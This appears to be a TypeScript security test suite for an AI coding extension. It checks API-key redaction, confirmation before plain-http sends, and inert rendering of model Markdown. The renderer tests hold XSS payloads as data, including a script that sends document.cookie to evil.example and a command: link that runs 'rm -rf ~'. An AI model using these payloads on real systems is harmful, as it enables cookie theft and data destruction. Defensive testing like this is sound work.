// Security (GitHub issue #9, part 4), the parts that run without an editor: the API key never reaches logs, the
// ledger, the cache or any message, even when the host echoes it back in an error; a plain-http base URL to another
// host needs the user's confirmation; answers render model text as text (no live tag, no command: link, no remote
// image).
import { strict as assert } from 'node:assert';
import { mkdtempSync, readdirSync, readFileSync, statSync } from 'node:fs';
import { tmpdir } from 'node:os';
import * as path from 'node:path';
import { Pipeline, PipelineError } from '../../src/core/pipeline';
import { Ledger } from '../../src/core/ledger';
import { ResponseCache } from '../../src/core/cache';
import { ProviderClient, ProviderError, isLoopback as providerIsLoopback } from '../../src/core/provider';
import { parseConfig, type RawSettings } from '../../src/core/config';
import { MemoryLogger } from '../../src/core/ports';
import { renderMarkdown } from '../../src/core/markdown';
import type { EditorRequest } from '../../src/core/types';
import { startSimulator, type Fault, type Simulator } from '../fixtures/simulator';
import { installVscodeStub, resetStub, state } from '../fixtures/crash/vscodeStub';
import { recordingClock } from '../fixtures/clock';

const KEY = 'sk-frugal-canary-0123456789abcdef';
const EXPLAIN: EditorRequest = {
  task: 'explain',
  instruction: '',
  languageId: 'typescript',
  selection:
    'export function byName(users: User[]): User[] {\n  return [...users].sort((a, b) => a.name.localeCompare(b.name));\n}',
};

function filesUnder(dir: string): string[] {
  const out: string[] = [];
  for (const e of readdirSync(dir, { withFileTypes: true })) {
    const p = path.join(dir, e.name);
    if (e.isDirectory()) out.push(...filesUnder(p));
    else if (e.isFile()) out.push(p);
  }
  return out;
}

describe('security: the API key never leaves SecretStorage', function () {
  this.timeout(30_000);
  let sim: Simulator;
  let dir: string;
  let logger: MemoryLogger;
  let ledger: Ledger;
  let cache: ResponseCache;
  /** everything a user could see: answers, notices, error messages */
  const shown: string[] = [];
  /** ProviderErrors seen, to prove the host really echoed the key */
  const providerMessages: string[] = [];

  before(async () => {
    sim = await startSimulator({ port: 0, echoKey: true });
    dir = mkdtempSync(path.join(tmpdir(), 'frugal-security-'));
    logger = new MemoryLogger();
    ledger = new Ledger({ dir: path.join(dir, 'global'), logger });
    await ledger.load();
    cache = new ResponseCache({
      dir: path.join(dir, 'workspace', 'cache'),
      logger,
      ttlMs: 86_400_000,
      maxEntries: 100,
      maxBytes: 1 << 20,
      flushDelayMs: 1,
    });
    await cache.load();
  });
  after(async () => {
    await sim.close();
  });

  function pipelineWith(raw: RawSettings = {}): Pipeline {
    const { config } = parseConfig({
      baseUrl: sim.baseUrl,
      'request.timeoutSeconds': 1,
      'request.maxRetries': 1,
      ...raw,
    });
    const client = new ProviderClient({ logger, clock: recordingClock() });
    const spy = {
      chat: (c: Parameters<ProviderClient['chat']>[0]) =>
        client.chat(c).catch((e: unknown) => {
          if (e instanceof ProviderError) providerMessages.push(e.providerMessage ?? '');
          throw e;
        }),
      complete: (c: Parameters<ProviderClient['complete']>[0]) =>
        client.complete(c).catch((e: unknown) => {
          if (e instanceof ProviderError) providerMessages.push(e.providerMessage ?? '');
          throw e;
        }),
    };
    return new Pipeline({
      getConfig: () => config,
      provider: spy,
      secrets: { getApiKey: async () => KEY },
      ledger,
      cache,
      logger,
      workspace: 'ws',
    });
  }

  async function runAndCollect(p: Pipeline, req: EditorRequest): Promise<void> {
    try {
      const r = await p.run(req);
      shown.push(r.content, r.notice ?? '', r.reason);
    } catch (e) {
      assert.ok(e instanceof PipelineError, String(e));
      shown.push(e.userMessage, e.message, e.partial?.content ?? '', e.partial?.notice ?? '');
    }
  }

  const scenarios: { name: string; faults: Fault[]; raw?: RawSettings }[] = [
    { name: 'a normal answer', faults: [] },
    {
      name: 'a 401 whose body echoes the key (cascade off)',
      faults: [{ type: 'status', status: 401 }],
      raw: { 'cascade.enabled': false },
    },
    { name: 'a 401 whose body echoes the key (cascade on)', faults: [{ type: 'status', status: 401 }] },
    {
      name: 'a 429 echoing the key, retried until given up',
      faults: [{ type: 'status', status: 429, times: -1 }],
      raw: { 'cascade.enabled': false },
    },
    {
      name: 'a 500 echoing the key, then a fallback',
      faults: [{ type: 'status', status: 500, times: 2, model: 'Qwen/Qwen3-8B' }],
    },
    {
      name: 'a 404 (unknown model) echoing the key',
      faults: [{ type: 'status', status: 404 }],
      raw: { 'cascade.enabled': false },
    },
    {
      name: 'a stream cut mid-answer',
      faults: [{ type: 'disconnect', afterChars: 30 }],
      raw: { 'cascade.enabled': false },
    },
  ];
  scenarios.forEach((s, i) => {
    it(`${s.name}: the key is not in any message or log line`, async () => {
      sim.setFaults(s.faults);
      const before = { shown: shown.length, log: logger.lines.length };
      await runAndCollect(pipelineWith(s.raw), { ...EXPLAIN, instruction: `security ${i}` });
      const fresh = [...shown.slice(before.shown), ...logger.lines.slice(before.log)];
      for (const text of fresh) assert.ok(!text.includes(KEY), `the key leaked into: ${text}`);
      assert.ok(fresh.length > 0);
    });
  });

  it('an inline completion refused with a key-echoing 401: the thrown error and the log do not carry the key', async () => {
    sim.setFaults([{ type: 'status', status: 401, endpoint: 'fim' }]);
    const before = logger.lines.length;
    await assert.rejects(
      pipelineWith().complete(
        { prefix: 'const x = ', suffix: ';', languageId: 'typescript', maxTokens: 16, stop: [] },
        new AbortController().signal,
      ),
      (e: any) => {
        assert.ok(!String(e.userMessage).includes(KEY) && !String(e.message).includes(KEY), e.message);
        return true;
      },
    );
    for (const l of logger.lines.slice(before)) assert.ok(!l.includes(KEY), l);
  });

  it('the test is not vacuous: the key was sent to the host, and the host echoed it back (redacted before use)', () => {
    const chats = sim.requests.filter((r) => r.endpoint === 'chat' || r.endpoint === 'fim');
    assert.ok(chats.length >= scenarios.length && chats.every((r) => r.hasAuthorization));
    const echoed = providerMessages.filter((m) => /Incorrect API key provided|request authorized with/.test(m));
    assert.ok(echoed.length >= 4, `echoing errors seen: ${providerMessages.join(' | ')}`);
    assert.ok(echoed.every((m) => m.includes('***') && !m.includes(KEY)));
  });

  it('after all of it, no file in the ledger or cache folders contains the key (nor its base64)', async () => {
    await ledger.flush();
    await cache.flush();
    const files = filesUnder(dir);
    assert.ok(
      files.some((f) => /ledger\/\d{4}-\d{2}\.jsonl$/.test(f)) && files.some((f) => f.endsWith('response-cache.jsonl')),
      files.join(', '),
    );
    assert.ok(ledger.recent().length >= scenarios.length);
    assert.ok(
      ledger.recent().some((r) => r.outcome === 'error'),
      'error records (whose error text came from the host) were written',
    );
    for (const f of files) {
      const bytes = readFileSync(f);
      assert.ok(statSync(f).size > 0 || f.endsWith('.lock'));
      for (const needle of [KEY, Buffer.from(KEY).toString('base64'), KEY.slice(3)]) {
        assert.ok(!bytes.includes(Buffer.from(needle)), `${needle} found in ${f}`);
      }
    }
  });
});

describe('security: plain http to another host needs confirmation', () => {
  let guardModule: typeof import('../../src/vscode/guard');
  before(async () => {
    installVscodeStub();
    guardModule = await import('../../src/vscode/guard');
  });
  beforeEach(() => resetStub());

  const loopback = [
    'http://127.0.0.1:11434/v1',
    'http://localhost:8080/v1',
    'http://[::1]:11434/v1',
    'http://127.1.2.3/v1',
    'http://LOCALHOST/v1',
    'http://0.0.0.0:11434/v1',
  ];
  const remote = [
    'http://example.com/v1',
    'http://10.0.0.5:8000/v1',
    'http://192.168.1.2/v1',
    'http://localhost.evil.example/v1',
    'http://127.0.0.1.nip.io/v1',
    'http://evil.example/127.0.0.1',
    'http://user:pw@evil.example/v1',
    'not a url',
  ];
  it('isLoopback: loopback names and addresses only (guard and provider client agree)', () => {
    for (const u of loopback) {
      assert.equal(guardModule.isLoopback(u), true, u);
      assert.equal(providerIsLoopback(u), true, u);
    }
    for (const u of remote) {
      assert.equal(guardModule.isLoopback(u), false, u);
      assert.equal(providerIsLoopback(u), false, u);
    }
  });

  it('http to another host: asks (modal), and declining sends nothing; accepting is remembered for the session', async () => {
    const guard = new guardModule.SendGuard();
    const { config } = parseConfig({ baseUrl: 'http://example.com/v1' });
    assert.equal(await guard.allow(config), false, 'no answer = do not send');
    assert.equal(state.shown.length, 1);
    assert.match(state.shown[0].text, /http:\/\/example\.com\/v1 is plain http to another host/);
    state.answers.push({ match: /plain http/, pick: 'Send Anyway' });
    assert.equal(await guard.allow(config), true);
    assert.equal(state.shown.length, 2);
    assert.equal(await guard.allow(config), true);
    assert.equal(state.shown.length, 2, 'asked once per session');
  });

  it('https anywhere and http to loopback go without a question', async () => {
    const guard = new guardModule.SendGuard();
    for (const baseUrl of ['https://api.deepseek.com', 'https://global-apis.com/v1', ...loopback]) {
      assert.equal(await guard.allow(parseConfig({ baseUrl }).config), true, baseUrl);
    }
    assert.equal(await guard.allow(parseConfig({ preset: 'ollama' }).config), true);
    assert.deepEqual(state.shown, []);
  });

  it('an extra provider over plain http is asked about too', async () => {
    const guard = new guardModule.SendGuard();
    const { config, errors } = parseConfig({ providers: { lan: { baseUrl: 'http://gpu-box.lan:8000/v1' } } });
    assert.deepEqual(errors, []);
    assert.equal(await guard.allow(config), false);
    assert.match(state.shown[0].text, /gpu-box\.lan/);
  });

  it('inline completions never ask: silent only once https, loopback, or a confirmed http URL, in a trusted workspace', async () => {
    const guard = new guardModule.SendGuard();
    assert.equal(guard.allowsSilently(parseConfig({ baseUrl: 'https://api.deepseek.com' }).config), true);
    assert.equal(guard.allowsSilently(parseConfig({ baseUrl: 'http://127.0.0.1:11434/v1' }).config), true);
    const remote = parseConfig({ baseUrl: 'http://gpu-box.lan:8000/v1' }).config;
    assert.equal(guard.allowsSilently(remote), false, 'unconfirmed plain http to another host');
    const fim = parseConfig({
      providers: { f: { baseUrl: 'https://a.example/v1', fimBaseUrl: 'HTTP://fim.example/beta' } },
    }).config;
    assert.equal(guard.allowsSilently(fim), false, 'a plain-http FIM URL, in capitals');
    state.answers.push({ match: /plain http/, pick: 'Send Anyway' });
    assert.equal(await guard.allow(remote), true);
    assert.equal(guard.allowsSilently(remote), true, 'confirmed once through a command');
    assert.equal(state.shown.length, 1, 'allowsSilently itself never shows anything');
    state.isTrusted = false;
    const untrusted = new guardModule.SendGuard();
    assert.equal(
      untrusted.allowsSilently(parseConfig({ baseUrl: 'https://api.deepseek.com' }).config),
      false,
      'untrusted workspace',
    );
    assert.equal(state.shown.length, 1);
  });

  it('an untrusted workspace asks before sending code, and declining sends nothing', async () => {
    state.isTrusted = false;
    const guard = new guardModule.SendGuard();
    assert.equal(await guard.allow(parseConfig({}).config), false);
    assert.match(state.shown[0].text, /not trusted/);
  });
});

describe('security: answers render model text as text', () => {
  const ALLOWED_TAG = /^<\/?(p|h[1-6]|ul|ol|li|strong|em|code|span class="url"|span|pre( data-lang="[\w+#.-]+")?)>$/;

  /** Every tag in the output is one the renderer writes itself; no attribute but class / data-lang. */
  function assertInert(html: string): void {
    for (const tag of html.match(/<[^>]*>/g) ?? [])
      assert.match(tag, ALLOWED_TAG, `live tag in output: ${tag}\n${html}`);
    assert.doesNotMatch(html, /<(img|script|a|iframe|svg|style|link|object|embed|form|input|meta|base)\b/i, html);
    // an attribute can only live inside a tag; the text " onerror=" between escaped brackets is inert
    for (const tag of html.match(/<[^>]*>/g) ?? [])
      assert.doesNotMatch(tag, /\s(on\w+|href|src|srcset|style|action|formaction)\s*=/i, tag);
    // no raw angle bracket, quote-breakout or entity from the payload survives unescaped
    assert.doesNotMatch(html.replace(/<[^>]*>/g, ''), /[<>]/, html);
  }

  const payloads: { name: string; md: string; extra?: (html: string) => void }[] = [
    { name: 'an <img onerror>', md: 'Look: <img src=x onerror=alert(1)> done' },
    { name: 'a <script> block', md: '<script>fetch("https://evil.example/?k="+document.cookie)</script>' },
    { name: 'a script tag split over lines', md: '<scr\nipt>alert(1)</script>' },
    {
      name: 'a command: link',
      md: 'Click [here](command:workbench.action.terminal.new) to continue',
      extra: (h) => assert.doesNotMatch(h, /<a\b|href/i),
    },
    {
      name: 'a command: link with arguments',
      md: '[run](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22rm%20-rf%20~%5Cn%22%7D)',
    },
    { name: 'a remote image', md: '![](https://evil.example/x.png)', extra: (h) => assert.match(h, /not loaded/) },
    { name: 'a remote image with alt text and a title', md: '![logo](https://evil.example/track.gif "t")' },
    { name: 'a javascript: link', md: '[x](javascript:alert(1))' },
    { name: 'an autolink and raw URL', md: '<https://evil.example> and https://evil.example/x' },
    { name: 'HTML inside inline code', md: 'use `<img src=x onerror=alert(1)>` here' },
    {
      name: 'HTML inside a fence with a hostile info string',
      md: '```"><img src=x onerror=alert(1)>\n<script>alert(1)</script>\n```',
    },
    { name: 'HTML inside a fence', md: '```html\n<script>alert(1)</script>\n<img src=x onerror=alert(1)>\n```' },
    {
      name: 'attribute breakout in emphasis and headings',
      md: '# <b onmouseover=alert(1)>title</b>\n**<i style="x">bold</i>** *"quoted"* _<u>u</u>_',
    },
    {
      name: 'a list of payloads',
      md: '- <iframe src="https://evil.example"></iframe>\n1. <svg onload=alert(1)>\n- <a href="command:x">a</a>',
    },
    {
      name: 'entities that decode to tags',
      md: '&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;',
    },
    { name: 'a data: URL image', md: '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)' },
    { name: 'a reference-style link to command:', md: '[go][1]\n\n[1]: command:workbench.action.terminal.new' },
  ];
  for (const p of payloads) {
    it(`${p.name}: no live tag or attribute, no command: link, no remote image`, () => {
      const html = renderMarkdown(p.md);
      assertInert(html);
      p.extra?.(html);
    });
  }

  it('the text of the payload is still shown (escaped), not silently dropped', () => {
    const html = renderMarkdown('Look: <img src=x onerror=alert(1)>');
    assert.ok(html.includes('&lt;img src=x onerror=alert(1)&gt;'), html);
    const link = renderMarkdown('[here](command:workbench.action.terminal.new)');
    assert.match(link, /here \(<span class="url">command:workbench\.action\.terminal\.new<\/span>\)/);
  });

  it('ordinary Markdown still renders', () => {
    const html = renderMarkdown(
      '# Title\n\nSome **bold** and *em* and `code`.\n\n- one\n- two\n\n```ts\nconst a = 1 < 2;\n```',
    );
    assert.match(html, /<h2>Title<\/h2>/);
    assert.match(html, /<strong>bold<\/strong>/);
    assert.match(html, /<em>em<\/em>/);
    assert.match(html, /<code>code<\/code>/);
    assert.match(html, /<ul>\n<li>one<\/li>\n<li>two<\/li>\n<\/ul>/);
    assert.match(html, /<pre data-lang="ts"><code>const a = 1 &lt; 2;<\/code><\/pre>/);
    assertInert(html);
  });
});
